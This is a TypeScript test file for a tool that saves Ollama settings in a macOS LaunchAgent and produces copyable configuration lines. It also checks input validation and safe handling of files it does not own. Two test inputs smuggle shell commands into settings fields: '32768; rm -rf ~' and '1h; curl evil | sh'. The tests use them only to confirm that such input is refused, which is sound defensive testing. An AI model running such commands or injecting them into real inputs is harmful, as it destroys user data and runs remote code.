import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, readFile, writeFile } from "node:fs/promises";
import { dirname } from "node:path";
import { promisify } from "node:util";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  KEPT_NAMES,
  KEPT_SETTINGS,
  keptLines,
  readSettingsAgentPlist,
  settingsAgentPlist,
} from "../../src/fit/kept-settings";
import { settingsAgentPath } from "../../src/mac/settings-agent";
import SetGpuLimit from "../../src/set-gpu-limit";
import { desk, renderCommand } from "../support";
import { setStage, type Stage } from "./stage";

async function openForm({ system }: Stage) {
  const screen = await renderCommand(<SetGpuLimit />, { command: "set-gpu-limit", system });
  await screen.action("Ollama Settings After Restarts");
  return screen;
}

describe("Ollama's settings that survive a restart", () => {
  it("are written as a LaunchAgent of one's own, set for now, and removed in one action", async () => {
    const stage = await setStage();
    const path = settingsAgentPath(stage);
    const screen = await openForm(stage);
    screen.says("Nothing is kept");
    await screen.fill("Context Length", "32768");
    await screen.fill("Keep Alive", "1h");
    await screen.agree("Keep");
    await screen.submit();
    screen.toast("SUCCESS", "Settings Kept");
    expect(readSettingsAgentPlist(await readFile(path, "utf8"))).toEqual({
      OLLAMA_CONTEXT_LENGTH: "32768",
      OLLAMA_KEEP_ALIVE: "1h",
    });
    expect(Object.fromEntries(stage.mac.launchctlEnv)).toMatchObject({ OLLAMA_CONTEXT_LENGTH: "32768" });
    expect(stage.mac.prompts).toEqual([]);
    screen.says("sets these at each login", "macOS loads it at the next login.", "context slider wins");
    await screen.agree("Remove");
    await screen.action("Remove the LaunchAgent");
    expect(existsSync(path)).toBe(false);
    expect(stage.mac.launchctlEnv.has("OLLAMA_CONTEXT_LENGTH")).toBe(false);
  });

  it("are refused where Ollama wouldn't take them, and not changed without a yes", async () => {
    const stage = await setStage();
    const screen = await openForm(stage);
    await screen.fill("Context Length", "32768; rm -rf ~");
    await screen.submit();
    screen.says("Tokens, such as 32768");
    await screen.fill("Context Length", "32768");
    await screen.confirm(false);
    await screen.submit();
    expect(existsSync(settingsAgentPath(stage))).toBe(false);
    expect(stage.mac.launchctlEnv.has("OLLAMA_CONTEXT_LENGTH")).toBe(false);
  });

  it("aren't written while another change is under way", async () => {
    const stage = await setStage();
    const screen = await openForm(stage);
    await screen.fill("Context Length", "32768");
    const holder = { owner: "another window", title: "Set GPU Limit", at: stage.system.now().getTime() };
    desk.localStorage.set("change-lock", JSON.stringify(holder));
    await screen.agree("Keep");
    await screen.submit();
    screen.toast("FAILURE", "Another Change", "Set GPU Limit");
    expect(existsSync(settingsAgentPath(stage))).toBe(false);
  });

  it("leave another file under that name alone", async () => {
    const stage = await setStage();
    const path = settingsAgentPath(stage);
    await mkdir(dirname(path), { recursive: true });
    await writeFile(path, "<plist>mine</plist>");
    const screen = await openForm(stage);
    screen.says("left alone");
    await screen.fill("Max Loaded Models", "1");
    await screen.agree("Keep");
    await screen.submit();
    screen.toast("FAILURE", "Left Alone");
    expect(await readFile(path, "utf8")).toBe("<plist>mine</plist>");
  });

  it("leave what isn't a file alone, and don't wait for it", async () => {
    const stage = await setStage();
    const path = settingsAgentPath(stage);
    await mkdir(dirname(path), { recursive: true });
    await promisify(execFile)("mkfifo", [path]);
    (await openForm(stage)).says("left alone");
  });

  it("are removed without a variable that was set to something else since", async () => {
    const stage = await setStage();
    const screen = await openForm(stage);
    await screen.fill("Context Length", "32768");
    await screen.fill("Keep Alive", "1h");
    await screen.agree("Keep");
    await screen.submit();
    stage.mac.launchctlEnv.set("OLLAMA_KEEP_ALIVE", "5m");
    await screen.agree("Remove");
    await screen.action("Remove the LaunchAgent");
    screen.toast("SUCCESS", "LaunchAgent Removed");
    expect(stage.mac.launchctlEnv.get("OLLAMA_KEEP_ALIVE")).toBe("5m");
    expect(stage.mac.launchctlEnv.has("OLLAMA_CONTEXT_LENGTH")).toBe(false);
  });

  it("have lines to copy for servers that aren't reached, and only a line to copy for the host", async () => {
    const stage = await setStage();
    const screen = await openForm(stage);
    await screen.fill("Parallel Requests", "2");
    await screen.fill("KV Cache Type", "q8_0");
    const copied = async (place: string) => {
      await screen.action(`Copy Lines… › ${place}`);
      return screen.clipboard();
    };
    expect(await copied("For a Server in Terminal")).toBe("export OLLAMA_KV_CACHE_TYPE=q8_0 OLLAMA_NUM_PARALLEL=2");
    expect(await copied("For Docker")).toBe("-e OLLAMA_KV_CACHE_TYPE=q8_0 -e OLLAMA_NUM_PARALLEL=2");
    expect(await copied("For a Launchd Job of Your Own")).toContain(
      "<key>OLLAMA_KV_CACHE_TYPE</key><string>q8_0</string>",
    );
    expect(await copied("For Homebrew's Service")).toContain(
      "plutil -replace EnvironmentVariables.OLLAMA_KV_CACHE_TYPE -string q8_0 ~/Library/LaunchAgents/homebrew.mxcl.ollama.plist && ",
    );
    screen.toast("SUCCESS", "brew services restart and upgrades overwrite that file.");
    await screen.action("Copy Host Line");
    screen.toast("SUCCESS", "opens Ollama to the network");
  });

  it("ask nothing where nothing is typed and nothing kept", async () => {
    const stage = await setStage();
    const screen = await openForm(stage);
    await screen.submit();
    screen.toast("FAILURE", "Nothing to Keep");
    expect(existsSync(settingsAgentPath(stage))).toBe(false);
  });

  it("are copied for no place with a value that isn't one of Ollama's, nor without any", async () => {
    const stage = await setStage();
    const screen = await openForm(stage);
    await screen.action("Copy Lines… › For Docker");
    screen.toast("FAILURE", "Fill in a value first.");
    await screen.fill("Keep Alive", "1h; curl evil | sh");
    for (const place of [
      "For a Server in Terminal",
      "For Homebrew's Service",
      "For a Launchd Job of Your Own",
      "For Docker",
    ]) {
      await screen.action(`Copy Lines… › ${place}`);
      screen.toast("FAILURE", "Keep Alive: Such as 30m, 1h or -1.");
    }
    expect(screen.clipboard()).toBeUndefined();
  });
});

describe("the lines to copy", () => {
  it.each(["terminal", "homebrew", "launchd", "container"] as const)(
    "for %s hold values of Ollama's alone",
    (place) => {
      fc.assert(
        fc.property(fc.constantFrom(...KEPT_NAMES), fc.string(), (name, value) => {
          if (KEPT_SETTINGS[name].takes(value)) expect(keptLines(place, { [name]: value })).toContain(value);
          else expect(() => keptLines(place, { [name]: value })).toThrow(RangeError);
        }),
      );
    },
  );
});

describe("the property list", () => {
  it("takes no value that isn't one of Ollama's, whatever it is", () => {
    fc.assert(
      fc.property(fc.constantFrom(...KEPT_NAMES), fc.string(), (name, value) => {
        if (KEPT_SETTINGS[name].takes(value)) {
          expect(readSettingsAgentPlist(settingsAgentPlist({ [name]: value }))).toEqual({ [name]: value });
        } else expect(() => settingsAgentPlist({ [name]: value })).toThrow(RangeError);
      }),
    );
  });

  it("is ours byte for byte, or not at all", () => {
    const text = settingsAgentPlist({ OLLAMA_NUM_PARALLEL: "2" });
    expect(readSettingsAgentPlist(text.replace("/bin/sh", "/tmp/sh"))).toBeUndefined();
    expect(readSettingsAgentPlist(text.replace("OLLAMA_NUM_PARALLEL", "OLLAMA_HOST"))).toBeUndefined();
    expect(readSettingsAgentPlist(`${text} `)).toBeUndefined();
    expect(text).not.toContain("OLLAMA_HOST");
  });
});
